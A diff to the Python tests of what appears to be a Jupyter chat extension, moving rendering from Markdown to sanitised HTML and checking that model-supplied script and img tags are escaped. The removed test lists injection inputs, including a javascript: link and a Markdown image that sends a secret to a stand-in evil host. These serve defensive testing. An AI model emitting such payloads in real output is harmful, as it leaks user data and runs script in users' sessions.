@@ -15,7 +15,7 @@ from polling import wait_until
 
 from heroku_magic import APIError, ChatResult, Done, Error, Event, ReasoningDelta, TextDelta, Usage
 from heroku_magic.render import drive
-from heroku_magic.render.markdown import first_code_block, neutralize_html, split_blocks
+from heroku_magic.render.markdown import first_code_block, split_blocks
 from heroku_magic.render.static import static_bundle
 from heroku_magic.render.text import TextRenderer
 from heroku_magic.render.widgets import WidgetRenderer
@@ -118,8 +118,10 @@ def test_widgets_never_carry_raw_html_from_the_model() -> None:
         for child in view.box.children
         if child.outputs
     ]
+    assert len(bundles) == 3
     for data in bundles:
-        assert "<script" not in data["text/markdown"] and "<img" not in data["text/markdown"]
+        assert "<script" not in data["text/html"] and "<img" not in data["text/html"]
+        assert "text/markdown" not in data  # never handed to the frontend's Markdown renderer
 
 
 def test_close_hides_the_live_view_for_the_static_result() -> None:
@@ -140,12 +142,14 @@ def test_static_bundle() -> None:
         time_to_first_token=0.5,
     )
     data, metadata = static_bundle(result, thinking_time=0.25)
-    assert data["text/markdown"].startswith("<details><summary>Thought for 0.2 s</summary>")
-    assert "&lt;b>hi&lt;/b> **there**" in data["text/markdown"] and "why &lt;i>" in data["text/markdown"]
+    html = data["text/html"]
+    assert html.startswith("<details><summary>Thought for 0.2 s</summary>\n<p>why &lt;i&gt;</p>")
+    assert "<p>&lt;b&gt;hi&lt;/b&gt; <strong>there</strong></p>" in html
     assert (
         "m · 1 prompt · 2 completion · 1 reasoning tokens · first token 0.50 s · total 1.50 s · 2 tok/s"
-        in data["text/markdown"]
+        in html
     )
+    assert "text/markdown" not in data
     assert data["text/plain"] == "<b>hi</b> **there**"
     assert metadata["heroku_magic"]["usage"]["total_tokens"] == 3
 
@@ -157,26 +161,6 @@ def test_text_renderer_streams_plain_text() -> None:
     events = finish([ReasoningDelta("hmm"), TextDelta("Hello"), TextDelta(" there")])
     drive(iter(events), [TextRenderer(out)])
     assert out.getvalue().startswith("[thinking]\nhmm\n\n[answer]\nHello there\n\n-- ")
-
-
-@pytest.mark.parametrize(
-    ("source", "expected"),
-    [
-        ("a <b>x</b>", "a &lt;b>x&lt;/b>"),
-        ("`<b>` stays", "`<b>` stays"),
-        ("```\n<b>\n```\n<i>", "```\n<b>\n```\n&lt;i>"),
-        ("$a<b$", r"$a\lt b$"),
-        ("[x](javascript:alert(1))", "[x](#blocked:alert(1))"),
-        (
-            "![pixel](https://evil.example/?q=secret) ![ref][r]",
-            r"!\[pixel](https://evil.example/?q=secret) !\[ref][r]",
-        ),
-        ("`![code](u)` and\n```\n![fenced](u)\n```\n", "`![code](u)` and\n```\n![fenced](u)\n```\n"),
-        ("- list\n- **bold**\n\n| a | b |\n|---|---|", "- list\n- **bold**\n\n| a | b |\n|---|---|"),
-    ],
-)
-def test_neutralize_html(source: str, expected: str) -> None:
-    assert neutralize_html(source) == expected
 
 
 def test_split_blocks_keeps_fences_whole() -> None:
@@ -249,7 +233,9 @@ def test_kernel_interrupt_mid_stream_keeps_partial_and_closes_connection(
     session = ip.magics_manager.registry["HerokuMagics"].session
     turn = session.conversation().turns[0]
     assert turn.result.interrupted and 0 < turn.result.text.count("w") < 2000
-    assert any("Interrupted" in o.data.get("text/markdown", "") for o in captured.outputs)
+    assert any(
+        "Interrupted: the answer above is partial" in o.data.get("text/html", "") for o in captured.outputs
+    )
     assert wait_until(lambda: not simulator_env.active_streams)  # the connection was closed, not drained
     simulator_env.config.interval = 0
     assert ip.run_cell("%%heroku_chat\nstill there?").success  # the conversation stays usable
